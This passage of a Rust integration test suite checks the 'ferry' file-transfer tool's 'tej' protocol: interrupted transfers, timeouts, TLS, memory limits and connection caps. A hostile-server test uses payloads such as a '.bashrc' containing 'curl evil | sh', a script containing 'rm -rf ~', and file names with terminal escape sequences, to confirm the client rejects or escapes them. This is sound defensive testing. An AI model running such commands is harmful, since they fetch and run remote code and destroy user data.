        );
        let pid = p.child.id();
        let mut max = 0;
        let t0 = Instant::now();
        let st = loop {
            max = max.max(proc_kib(pid, "RssAnon"));
            if let Ok(Some(st)) = p.child.try_wait() {
                break st;
            }
            assert!(
                t0.elapsed() < Duration::from_secs(30),
                "{what}: sender did not finish"
            );
            std::thread::sleep(Duration::from_millis(10));
        };
        h.join().unwrap();
        assert!(!st.success(), "{what}: no acknowledgement came, yet exit 0");
        assert!(max < 64 * 1024, "{what}: sender RssAnon {max} KiB");
    }
}

// ---------------------------------------------------------------------------------------------
// Catalog files changing under a request (tej.md 3.4, 4.1) and peers that do not read

/// Requests `name`, reads `first` bytes of the answer, runs `change`, then reads on to the end
/// of the frame or of the stream. Returns the frame if it completed.
fn request_and_change(
    s: &Server,
    name: &str,
    first: usize,
    change: impl FnOnce(),
) -> Result<Frame, End> {
    let mut c = connect(s);
    let req = json!({ "get": [name] }).to_string();
    c.write_all(&frame(4, &[], req.as_bytes())).unwrap();
    let mut head = vec![0u8; first];
    c.read_exact(&mut head).unwrap();
    change();
    // Bytes up to the message length field: header, one file entry and its data.
    let l = usize::from(u16::from_be_bytes([head[10], head[11]]));
    let f = u64::from_be_bytes(head[12 + l..20 + l].try_into().unwrap()) as usize;
    let before_message = 20 + l + f + 8;
    let mut buf = vec![0u8; 1 << 16];
    loop {
        match c.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => head.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            // Silence: the server neither finished the frame nor ended the stream.
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return Err(End::Timeout)
            }
            Err(_) => break,
        }
        if head.len() > MAX_READ as usize {
            break;
        }
        // A complete frame followed by silence: stop once it parses (tried only once the
        // message can have started, so the reading stays linear).
        if head.len() >= before_message {
            if let Ok(f) = read_frame(&mut &head[..]) {
                return Ok(f);
            }
        }
    }
    read_frame(&mut &head[..])
}

#[test]
fn t31_a_catalog_file_that_shrinks_while_sent_ends_the_frame_and_the_server_survives() {
    let dir = TempDir::new("tej-shrink");
    let data = pseudo_random(3101, 64 << 20);
    std::fs::write(dir.join("big.bin"), &data).unwrap();
    std::fs::write(dir.join("small.txt"), b"small").unwrap();
    let mut s = serve(dir.path(), &[]);
    let path = dir.join("big.bin");
    let got = request_and_change(&s, "big.bin", 1 << 20, || {
        let f = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
        f.set_len(1 << 20).unwrap();
    });
    match got {
        Ok(f) => panic!(
            "a complete frame came for a file cut to 1 MiB while 64 MiB were announced: {} files, message {:?}",
            f.files.len(),
            String::from_utf8_lossy(&f.msg)
        ),
        // The server cuts the connection: the frame ends early, never by silence (a timeout
        // would mean the server hung on the shrunken file).
        Err(End::Truncated(n)) => assert!(n < 64 << 20, "{n} bytes"),
        Err(e @ (End::Eof | End::Reset(_))) => panic!("the answer's header never came: {e:?}"),
        Err(End::Timeout) => panic!("the server neither finished nor cut the frame"),
    }
    std::thread::sleep(Duration::from_millis(300));
    assert!(s.is_alive(), "server died: {}", s.stderr_text());
    let mut c = connect(&s);
    c.write_all(&frame(4, &[], b"{\"get\":[\"small.txt\"]}"))
        .unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.files[0].1, b"small");
}

#[test]
fn t31_a_catalog_file_changed_in_place_while_sent_never_completes_with_wrong_bytes() {
    let dir = TempDir::new("tej-change");
    let data = pseudo_random(3103, 64 << 20);
    std::fs::write(dir.join("big.bin"), &data).unwrap();
    let s = serve(dir.path(), &[]);
    let path = dir.join("big.bin");
    let got = request_and_change(&s, "big.bin", 1 << 20, || {
        use std::os::unix::fs::FileExt;
        let f = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
        f.write_all_at(&[0xAA; 4096], 48 << 20).unwrap();
        f.sync_all().unwrap();
    });
    match got {
        Ok(f) => {
            // Completed: then bytes and manifest must agree (the requester would commit it).
            let j = f.json();
            assert_eq!(
                j["files"][0]["sha256"],
                sha(&f.files[0].1),
                "a complete answer whose bytes do not match its own manifest"
            );
        }
        // The change was seen: the server cut the frame before its last bytes (so before the
        // manifest a requester would check), not after a stall.
        Err(End::Truncated(n)) => assert!(n < (64 << 20) + 200, "{n} bytes"),
        Err(e) => panic!("the answer ended as {e:?}, neither complete nor cut short"),
    }
    // Either way the server goes on serving the file as it is now.
    let mut c = connect(&s);
    c.write_all(&frame(5, &[], b"")).unwrap();
    assert_eq!(next_frame(&mut c).status, 0x86);
}

#[test]
fn table_a_peer_that_never_reads_does_not_hold_up_others_and_is_closed_by_the_write_timeout() {
    let dir = TempDir::new("tej-noread");
    std::fs::write(dir.join("big.bin"), pseudo_random(3105, 64 << 20)).unwrap();
    // A 2 s write timeout (the default is 30 s), logged with -v, so the test waits for the
    // server's word instead of sleeping past the default.
    let s = serve(dir.path(), &["--io-timeout", "2", "-v"]);
    let mut lazy = connect(&s);
    let me = lazy.local_addr().unwrap();
    lazy.write_all(&frame(4, &[], b"{\"get\":[\"big.bin\"]}"))
        .unwrap();
    // Meanwhile other connections are served at once.
    let t0 = Instant::now();
    for k in 0..5u8 {
        let mut c = connect(&s);
        let name = format!("other{k}.txt");
        c.write_all(&frame(0, &[(name.as_bytes(), &[k; 10])], b""))
            .unwrap();
        expect_ack(&mut c, &ack_json(&[(&name, &[k; 10], Some(&name))], 0));
    }
    assert!(t0.elapsed() < Duration::from_secs(5));
    // The write timeout (2 s without write progress) closes the lazy one: its log line says so.
    let deadline = Instant::now() + Duration::from_secs(60);
    let gave_up = |log: &str| {
        log.lines()
            .any(|l| l.starts_with(&format!("tej: {me}: ")) && l.contains("timed out"))
    };
    while !gave_up(&s.stderr_text()) {
        assert!(
            Instant::now() < deadline,
            "no write timeout for {me} within 60 s:\n{}",
            s.stderr_text()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    lazy.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut buf = vec![0u8; 1 << 20];
    let mut total = 0usize;
    let ended = loop {
        match lazy.read(&mut buf) {
            Ok(0) => break true,
            Ok(n) => total += n,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                break false
            }
            Err(_) => break true,
        }
    };
    assert!(
        ended,
        "connection still open after the write timeout ({total} bytes were read after the pause)"
    );
    assert!(
        total < 64 << 20,
        "the whole answer was read ({total} bytes)"
    );
}

#[test]
fn table_a_local_file_that_shrinks_while_sent_gives_a_truncated_frame_and_a_failure() {
    let src = TempDir::new("tej-sshrink");
    let path = src.join("shrinking.bin");
    big_file(&path, 3201, 256 << 20);
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    let mut p = Proc::spawn(
        FERRY,
        &["tej", "send", "--addr", &addr, path.to_str().unwrap()],
    );
    let (mut c, _) = l.accept().unwrap();
    c.set_read_timeout(Some(T)).unwrap();
    let mut head = vec![0u8; 1 << 20];
    c.read_exact(&mut head).unwrap();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .unwrap()
        .set_len(2 << 20)
        .unwrap();
    let mut rest = Vec::new();
    let mut buf = vec![0u8; 1 << 20];
    let end = loop {
        match c.read(&mut buf) {
            Ok(0) => break End::Eof,
            Ok(n) => {
                rest.extend_from_slice(&buf[..n]);
                assert!(rest.len() < 300 << 20);
            }
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => break classify(e),
        }
    };
    let total = head.len() + rest.len();
    assert!(
        total < (256 << 20) + 18 + 10 + 14,
        "the whole frame ({total} bytes) went out although the file shrank ({end:?})"
    );
    let st = p.wait(Duration::from_secs(30));
    assert!(!st.success(), "sender reported success for a cut frame");
}

#[test]
fn t14_t30_a_request_for_more_than_max_files_items_gets_an_error_frame() {
    let dir = TempDir::new("tej-t14m");
    std::fs::write(dir.join("a.txt"), b"AAAA").unwrap();
    let s = serve(dir.path(), &["--max-files", "3"]);
    let mut c = connect(&s);
    c.write_all(&frame(4, &[], b"{\"get\":[\"a.txt\",\"a.txt\",\"a.txt\"]}"))
        .unwrap();
    assert_eq!(next_frame(&mut c).files.len(), 3);
    c.write_all(&frame(
        4,
        &[],
        b"{\"get\":[\"a.txt\",\"a.txt\",\"a.txt\",\"a.txt\"]}",
    ))
    .unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x83, "{} files answered", f.files.len());
    let code = f.json()["error"].as_str().unwrap().to_string();
    assert_error(&f, &code);
}

#[test]
fn t26_t27_idle_connections_under_the_limit_do_not_starve_a_new_one() {
    let dir = TempDir::new("tej-starve");
    let s = serve(
        dir.path(),
        &[
            "--idle-timeout",
            "60",
            "--max-connections",
            "300",
            "--max-per-ip",
            "300",
        ],
    );
    let idle: Vec<TcpStream> = (0..200).map(|_| connect(&s)).collect();
    std::thread::sleep(Duration::from_millis(300));
    let t0 = Instant::now();
    let mut c = connect(&s);
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
    assert!(t0.elapsed() < Duration::from_secs(5));
    drop(idle);
}

#[test]
fn tls_generated_certificate_is_trusted_by_ferry_send_with_cert() {
    let dir = TempDir::new("tej-tlsgen");
    let s = serve(dir.path(), &["--tls"]);
    let tls = dir.join(".ferry/tls");
    let cert = tls.join("cert.pem");
    assert!(
        cert.exists(),
        "no generated certificate at {cert:?}: {:?}",
        std::fs::read_dir(&tls).map(|r| r
            .filter_map(Result::ok)
            .map(|e| e.file_name())
            .collect::<Vec<_>>())
    );
    let src = TempDir::new("tej-tlsgensrc");
    std::fs::write(src.join("g.txt"), b"over tls").unwrap();
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            "--tls",
            "--cert",
            cert.to_str().unwrap(),
            src.join("g.txt").to_str().unwrap(),
            "--json",
        ],
        S,
    );
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(stdout_json(&o)["outcome"], "confirmed");
    // Without trusting it, the handshake fails: a network error, nothing stored twice.
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            "--tls",
            src.join("g.txt").to_str().unwrap(),
        ],
        S,
    );
    assert_eq!(code(&o), Some(3), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        visible(dir.path()),
        vec![("g.txt".to_string(), sha(b"over tls"))]
    );
}

#[test]
fn t29_ferry_serve_with_a_busy_tej_port_fails_with_exit_2() {
    let dir = TempDir::new("tej-t29s");
    let s = serve(dir.path(), &[]);
    let o = ferry(
        &[
            "serve",
            dir.path().to_str().unwrap(),
            "--jtp-bind",
            "127.0.0.1:0",
            "--tej-bind",
            &s.addr("tej"),
            "--no-tls",
        ],
        Duration::from_secs(20),
    );
    assert_eq!(code(&o), Some(2), "{}", String::from_utf8_lossy(&o.stderr));
}

#[test]
fn t18_large_catalog_file_ferry_get_keeps_rss_anon_small_on_both_sides() {
    let dir = TempDir::new("tej-t18g");
    let out = TempDir::new("tej-t18gout");
    let sum = big_file(&dir.join("large.bin"), 183, T18_SIZE);
    let s = serve(dir.path(), &[]);
    let server_pid = s.child.id();
    let mut getter = Proc::spawn(
        FERRY,
        &[
            "tej",
            "get",
            "--addr",
            &s.addr("tej"),
            "--out",
            out.path().to_str().unwrap(),
            "large.bin",
        ],
    );
    let t0 = Instant::now();
    let (status, max_server, max_getter) = wait_sampling_rss(&mut getter.child, server_pid, "get");
    eprintln!(
        "t18 get: {} MiB in {:?}, RssAnon max server {max_server} KiB, getter {max_getter} KiB",
        T18_SIZE >> 20,
        t0.elapsed()
    );
    assert!(status.success(), "getter: {status:?}");
    assert_eq!(hex(&sha256_file(&out.join("large.bin"))), sum);
    assert!(max_server < 64 * 1024, "server RssAnon {max_server} KiB");
    assert!(max_getter < 64 * 1024, "getter RssAnon {max_getter} KiB");
}

#[test]
fn t7_t9_tej_protoc_pings_keep_the_connection_open_and_are_not_answered() {
    let py = python();
    let dir = TempDir::new("tej-t7py");
    let src = TempDir::new("tej-t7pysrc");
    std::fs::write(src.join("after-pings.txt"), b"pinged").unwrap();
    let s = serve(dir.path(), &["--idle-timeout", "2"]);
    let addr = s.addr("tej");
    let (host, port) = addr.rsplit_once(':').unwrap();
    let mut p = Proc::spawn(
        py,
        &[
            &interop("tej_client.py"),
            "--ping-seconds",
            "4",
            host,
            port,
            "after pings",
            src.join("after-pings.txt").to_str().unwrap(),
        ],
    );
    // The first frame received() gets must be the acknowledgement: no ping was answered.
    let line = p.line(Duration::from_secs(60));
    let st = p.wait(Duration::from_secs(10));
    assert!(st.success(), "tej_client.py: {st:?} {line}");
    let got: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(got["custom_status"], 1, "{got}");
    let ack: Value = serde_json::from_str(got["message"].as_str().unwrap()).unwrap();
    assert_eq!(ack["files"][0]["stored_as"], "after-pings.txt");
    assert_eq!(ack["message_bytes"], 11);
}

// ---------------------------------------------------------------------------------------------
// Progress and timeouts of the client commands (issue: `tej send` and `tej get` showed no
// progress; a timeout read "Resource temporarily unavailable").

/// A peer that accepts one connection and reads nothing until told to (or 20 s pass); its
/// receive buffer is small and fixed, so a sender's writes stop making progress.
fn silent_sink() -> (String, mpsc::Sender<()>, std::thread::JoinHandle<()>) {
    use std::os::fd::AsRawFd;
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let size: libc::c_int = 64 * 1024;
    // SAFETY: setsockopt on our own listener with a correctly sized int; accepted sockets
    // inherit the buffer size, which also turns off receive-buffer autotuning.
    let rc = unsafe {
        libc::setsockopt(
            l.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_RCVBUF,
            (&size as *const libc::c_int).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    assert_eq!(rc, 0, "SO_RCVBUF: {}", std::io::Error::last_os_error());
    let addr = l.local_addr().unwrap().to_string();
    let (tx, rx) = mpsc::channel::<()>();
    let h = std::thread::spawn(move || {
        let (mut c, _) = l.accept().unwrap();
        let _ = rx.recv_timeout(Duration::from_secs(20));
        c.set_read_timeout(Some(T)).unwrap();
        let mut sink = vec![0u8; 1 << 20];
        while matches!(c.read(&mut sink), Ok(n) if n > 0) {}
    });
    (addr, tx, h)
}

#[test]
fn send_shows_progress_on_a_terminal_and_a_stalled_peer_times_out_in_words() {
    let dir = TempDir::new("tej-sendprog");
    let big = dir.join("big.bin");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(64 << 20)
        .unwrap();
    let (addr, done, h) = silent_sink();
    let args = [
        "tej",
        "send",
        "--addr",
        &addr,
        "--io-timeout",
        "2",
        big.to_str().unwrap(),
    ];
    let (code, tty) = crate::jtp_peers::ferry_with_tty_stderr(&args, S);
    let _ = done.send(());
    h.join().unwrap();
    assert_eq!(code, Some(3), "{tty}");
    assert!(tty.contains("timed out after 2 s"), "{tty:?}");
    assert!(tty.contains("0 / 1 files  "), "{tty:?}");
    assert!(tty.contains(" / 67.1 MB"), "{tty:?}");
    assert!(tty.contains("\r\x1b[K"), "{tty:?}");
}

#[test]
fn get_shows_bytes_as_they_arrive_on_a_terminal_only_and_times_out_in_words() {
    let data = pseudo_random(3301, 4 << 20);
    let answer = move |c: &mut TcpStream, f: Frame| {
        assert_eq!(f.status, 0x84, "expected a request, got {f:?}");
        // A deliver frame of one 4 MiB file, of which only the first MiB comes.
        c.write_all(&file_header(b"a.bin", 4 << 20)).unwrap();
        c.write_all(&data[..1 << 20]).unwrap();
        // Then silence until the client gives up.
        let mut sink = [0u8; 64];
        while matches!(c.read(&mut sink), Ok(n) if n > 0) {}
    };
    let out = TempDir::new("tej-getprog");
    let (addr, h) = fake_peer(answer.clone());
    let args = [
        "tej",
        "get",
        "--addr",
        &addr,
        "--io-timeout",
        "2",
        "--out",
        out.path().to_str().unwrap(),
        "a.bin",
    ];
    let (exit, tty) = crate::jtp_peers::ferry_with_tty_stderr(&args, S);
    h.join().unwrap();
    assert_eq!(exit, Some(3), "{tty}");
    assert!(tty.contains("timed out after 2 s"), "{tty:?}");
    assert!(tty.contains("0 / 1 files  1.0 / 4.2 MB"), "{tty:?}");
    assert!(tree(out.path()).is_empty());
    assert_no_temporaries(out.path());

    // Not a terminal: no progress line.
    let (addr, h) = fake_peer(answer);
    let mut args = args.to_vec();
    args[3] = &addr;
    let o = ferry(&args, S);
    h.join().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(code(&o), Some(3), "{err}");
    assert!(err.contains("timed out after 2 s"), "{err}");
    assert!(!err.contains('\x1b') && !err.contains("MB/s"), "{err:?}");
}

/// Issue: a file the server refuses while it is still being written ended in "i/o: Broken pipe"
/// (exit 3): the error frame the server sent was never read. It is read after the failed write.
#[test]
fn t11_send_refused_mid_write_reports_the_error_frame_with_exit_4() {
    let dir = TempDir::new("tej-t11mid");
    let src = TempDir::new("tej-t11midsrc");
    let big = src.join("big.bin");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(256 << 20)
        .unwrap();
    let s = serve(dir.path(), &["--max-file-size", "1000"]);
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            big.to_str().unwrap(),
            "--json",
        ],
        S,
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(code(&o), Some(4), "{err}");
    let j = stdout_json(&o);
    assert_eq!(j["outcome"], "refused", "{j}");
    assert_eq!(j["reply"]["error"], "too-large", "{j}");
    assert!(!err.contains("Broken pipe"), "{err}");
}

// ---------------------------------------------------------------------------------------------
// Issue 12 (interrupts, hostile output) and issue 15 items 8 and 12, client side.

fn signal(child: &Child, sig: i32) {
    // SAFETY: kill(2) on the pid of our own child.
    unsafe { libc::kill(child.id() as i32, sig) };
}

/// Polls `cond` every 5 ms for up to 20 s; panics with `what` if it never holds.
fn wait_until(what: &str, mut cond: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !cond() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// The streaming temporaries in `dir` with the bytes the file system holds for each.
fn client_temporaries(dir: &Path) -> Vec<(String, u64)> {
    use std::os::unix::fs::MetadataExt;
    std::fs::read_dir(dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".ferry-") && n.ends_with(".part"))
        .filter_map(|n| {
            Some((
                n.clone(),
                std::fs::metadata(dir.join(&n)).ok()?.blocks() * 512,
            ))
        })
        .collect()
}

/// Issue 15 item 8: `ferry tej get --out ~ photo.png` from a hostile server wrote `.bashrc`
/// and `unrequested.sh` and exited 0. Only what was asked for is accepted and dot-files never:
/// nothing is written (not even the file that was asked for), exit 4, and the message says
/// the server was refused (issue 12: it said "bytes do not match the manifest").
#[test]
fn get_refuses_files_not_asked_for_and_dot_files_and_writes_nothing() {
    /// The files of a hostile answer, and what the error must say.
    type Answer<'a> = (Vec<(&'a str, &'a [u8])>, &'a str);
    let answers: Vec<Answer> = vec![
        (
            vec![
                (".bashrc", b"curl evil | sh"),
                ("unrequested.sh", b"rm -rf ~"),
            ],
            "\".bashrc\"",
        ),
        (
            vec![("unrequested.sh", b"rm -rf ~")],
            "\"unrequested.sh\", which was not asked for",
        ),
        (
            vec![("photo.png", b"PNG"), ("unrequested.sh", b"rm -rf ~")],
            "\"unrequested.sh\", which was not asked for",
        ),
    ];
    for (files, says) in answers {
        let entries: Vec<Value> = files
            .iter()
            .map(|(n, d)| json!({"name": n, "size": d.len(), "sha256": sha(d)}))
            .collect();
        let manifest = json!({ "files": entries });
        let raw: Vec<(&[u8], &[u8])> = files.iter().map(|(n, d)| (n.as_bytes(), *d)).collect();
        let answer = frame(0, &raw, manifest.to_string().as_bytes());
        let out = TempDir::new("tej-i15-8");
        let o = get_from_fake(answer, out.path(), &["photo.png"]);
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(code(&o), Some(4), "{files:?}: {err}");
        assert!(err.contains("refused: the server sent"), "{err}");
        assert!(err.contains(says), "{err}");
        assert!(!err.contains("do not match the manifest"), "{err}");
        let left: Vec<_> = std::fs::read_dir(out.path())
            .unwrap()
            .filter_map(Result::ok)
            .map(|e| e.file_name())
            .collect();
        assert!(left.is_empty(), "{files:?}: {left:?}");
    }
}

/// Issue 12: `tej list` printed server-supplied names raw. Human output escapes them; `--json`
/// keeps them as sent.
#[test]
fn list_escapes_what_a_hostile_server_names() {
    let names = [
        "evil\n0000  1  forged.txt",
        "\x1b]0;pwned\x07t.txt",
        "c1\u{9b}31m.txt",
        "rlo\u{202e}txt.exe",
    ];
    let listing = |names: &[&str]| {
        let files: Vec<Value> = names
            .iter()
            .map(|n| json!({"name": n, "size": 1, "sha256": sha(b"x")}))
            .collect();
        frame(
            6,
            &[],
            json!({"files": files, "next": null}).to_string().as_bytes(),
        )
    };
    for json_out in [false, true] {
        let page = listing(&names);
        let (addr, h) = fake_peer(move |c, f| {
            assert_eq!(f.status, 0x85, "expected a list request, got {f:?}");
            c.write_all(&page).unwrap();
            let _ = c.shutdown(Shutdown::Write);
            let _ = read_frame(c);
        });
        let mut args = vec!["tej", "list", "--addr", &addr];
        if json_out {
            args.push("--json");
        }
        let o = ferry(&args, S);
        h.join().unwrap();
        assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
        let text = String::from_utf8(o.stdout).unwrap();
        if json_out {
            let j: Value = serde_json::from_str(&text).unwrap();
            let got: Vec<&str> = j
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["name"].as_str().unwrap())
                .collect();
            assert_eq!(got, names);
        } else {
            assert_eq!(text.lines().count(), names.len(), "{text:?}");
            assert!(
                !text
                    .chars()
                    .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
                "{text:?}"
            );
            assert!(text.contains("evil\\n0000"), "{text:?}");
            assert!(text.contains("\\x1b]0;pwned\\x07t.txt"), "{text:?}");
        }
    }
}

/// Issues 12 and 15 item 12: Ctrl-C of `tej get` killed the process with no handler and left
/// a preallocated `.part` as large as the server had announced (1 GiB and more). Now the
/// disk holds about what arrived while it arrives, and Ctrl-C exits 130 at once with the
/// temporary removed.
#[test]
fn get_ctrl_c_mid_file_exits_130_and_the_announced_size_is_never_preallocated() {
    let written = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let w2 = written.clone();
    let (addr, h) = fake_peer(move |c, f| {
        assert_eq!(f.status, 0x84, "expected a request, got {f:?}");
        c.write_all(&file_header(b"a.bin", 4 << 30)).unwrap();
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..8 {
            c.write_all(&zeros).unwrap();
        }
        w2.store(true, std::sync::atomic::Ordering::SeqCst);
        // Silent until the client goes.
        let mut sink = [0u8; 64];
        while matches!(c.read(&mut sink), Ok(n) if n > 0) {}
    });
    let out = TempDir::new("tej-i12ctrlc");
    let mut child = Command::new(FERRY)
        .args([
            "tej",
            "get",
            "--addr",
            &addr,
            "--out",
            out.path().to_str().unwrap(),
            "a.bin",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_until("the server's 8 MiB", || {
        written.load(std::sync::atomic::Ordering::SeqCst)
    });
    wait_until("a temporary", || !client_temporaries(out.path()).is_empty());
    let held: u64 = client_temporaries(out.path()).iter().map(|(_, b)| b).sum();
    assert!(
        held < 256 << 20,
        "{held} bytes held for a file of which 8 MiB arrived"
    );
    signal(&child, libc::SIGINT);
    let started = Instant::now();
    let st = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        // The server never closes: only the client's own stop ends the run.
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "tej get still running"
        );
        std::thread::sleep(Duration::from_millis(5));
    };
    let mut err = String::new();
    let _ = child.stderr.take().unwrap().read_to_string(&mut err);
    assert_eq!(st.code(), Some(130), "{err}");
    assert!(
        client_temporaries(out.path()).is_empty(),
        "{:?}",
        client_temporaries(out.path())
    );
    assert!(tree(out.path()).is_empty());
    h.join().unwrap();
}

/// Issue 12: Ctrl-C of `tej send` killed the process with no handler (and no word). It exits
/// 130 at once, saying so; the server throws the partial frame away.
#[test]
fn send_ctrl_c_exits_130_at_once() {
    let dir = TempDir::new("tej-i12send");
    let big = dir.join("big.bin");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(64 << 20)
        .unwrap();
    let (addr, done, h) = silent_sink();
    let mut child = Command::new(FERRY)
        .args(["tej", "send", "--addr", &addr, big.to_str().unwrap()])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Connected and blocked on a full socket once the sink's buffer is full; give it a moment.
    std::thread::sleep(Duration::from_millis(500));
    signal(&child, libc::SIGINT);
    let started = Instant::now();
    let st = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "tej send still running"
        );
        std::thread::sleep(Duration::from_millis(5));
    };
    let _ = done.send(());
    h.join().unwrap();
    let mut err = String::new();
    let _ = child.stderr.take().unwrap().read_to_string(&mut err);
    assert_eq!(st.code(), Some(130), "{err}");
    assert!(err.contains("tej send: interrupted"), "{err}");
}

// Server-side limits a hostile peer would push (issue 15 items 4, 5, 9; issue 12 memory and
// error frames)

/// A TCP connection to `addr` from the loopback address `src` (127.0.0.x), so one test can be
/// several peers.
fn connect_from(src: [u8; 4], addr: &str) -> TcpStream {
    use std::os::fd::FromRawFd;
    let dst: std::net::SocketAddrV4 = addr.parse().expect("an IPv4 address");
    let sin = |ip: [u8; 4], port: u16| libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(ip),
        },
        sin_zero: [0; 8],
    };
    let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
    // SAFETY: plain socket calls on a descriptor we own; the sockaddr_in values live across
    // each call; the descriptor is handed to TcpStream, which closes it.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
        let stream = TcpStream::from_raw_fd(fd);
        let local = sin(src, 0);
        let r = libc::bind(fd, &local as *const _ as *const libc::sockaddr, len);
        assert_eq!(r, 0, "bind {src:?}: {}", std::io::Error::last_os_error());
        let remote = sin(dst.ip().octets(), dst.port());
        let r = libc::connect(fd, &remote as *const _ as *const libc::sockaddr, len);
        assert_eq!(r, 0, "connect {addr}: {}", std::io::Error::last_os_error());
        stream.set_read_timeout(Some(T)).unwrap();
        stream.set_write_timeout(Some(T)).unwrap();
        stream
    }
}

/// Issue 15 item 9: by default one address may hold a quarter of --max-connections; one more
/// from it gets `busy` at once while other addresses are still served.
#[test]
fn per_ip_cap_is_a_quarter_of_max_connections_and_other_addresses_are_served() {
    let dir = TempDir::new("tej-perip");
    let s = serve(dir.path(), &["--max-connections", "8"]);
    let addr = s.addr("tej");
    let mut held = Vec::new();
    for _ in 0..2 {
        let mut c = connect_from([127, 0, 0, 1], &addr);
        c.write_all(&unhex(EMPTY)).unwrap();
        expect_ack(&mut c, &ack_json(&[], 0));
        held.push(c);
    }
    let mut third = connect_from([127, 0, 0, 1], &addr);
    expect_error_and_close(&mut third, "busy");
    for ip in [[127, 0, 0, 2], [127, 0, 0, 3]] {
        let mut c = connect_from(ip, &addr);
        c.write_all(&unhex(MESSAGE_HELLO)).unwrap();
        expect_ack(&mut c, &ack_json(&[], 5));
        held.push(c);
    }
    // A place of 127.0.0.1 comes back when one of its connections closes.
    drop(held.remove(0));
    assert!(
        wait_for(Duration::from_secs(5), || {
            let mut c = connect_from([127, 0, 0, 1], &addr);
            c.write_all(&unhex(EMPTY)).unwrap();
            matches!(read_frame(&mut c), Ok(f) if f.status == 0x81)
        }),
        "127.0.0.1 never got its place back"
    );
    // An explicit --max-per-ip wins over the default.
    let dir = TempDir::new("tej-perip1");
    let s = serve(dir.path(), &["--max-connections", "8", "--max-per-ip", "1"]);
    let mut a = connect(&s);
    a.write_all(&unhex(EMPTY)).unwrap();
    expect_ack(&mut a, &ack_json(&[], 0));
    expect_error_and_close(&mut connect(&s), "busy");
}

/// Issue 15 item 9: pings (and replies ferry never answers) keep the idle timer happy but never
/// keep a connection past --max-idle-life without a frame that does something.
#[test]
fn pings_never_keep_a_connection_past_its_max_idle_life() {
    let dir = TempDir::new("tej-life");
    let s = serve(
        dir.path(),
        &["--idle-timeout", "30", "--max-idle-life", "2"],
    );
    // One connection only pings, every 300 ms.
    let mut pinger = connect(&s);
    let mut w = pinger.try_clone().unwrap();
    let (tx, rx) = mpsc::channel::<()>();
    let pings = std::thread::spawn(move || {
        let ping = unhex(PING);
        while rx.recv_timeout(Duration::from_millis(300)).is_err() {
            if w.write_all(&ping).is_err() || w.write_all(&unhex(FERRY_ACK_FILE_ONLY)).is_err() {
                return;
            }
        }
    });
    // Another sends a deliver frame every 700 ms: it lives on past 2 s.
    let mut worker = connect(&s);
    let t0 = Instant::now();
    while t0.elapsed() < Duration::from_secs(3) {
        worker.write_all(&unhex(MESSAGE_HELLO)).unwrap();
        expect_ack(&mut worker, &ack_json(&[], 5));
        std::thread::sleep(Duration::from_millis(700));
    }
    let j = expect_error_and_close(&mut pinger, "timeout");
    assert!(j["detail"].as_str().unwrap().contains("pings"), "{j}");
    let _ = tx.send(());
    pings.join().unwrap();
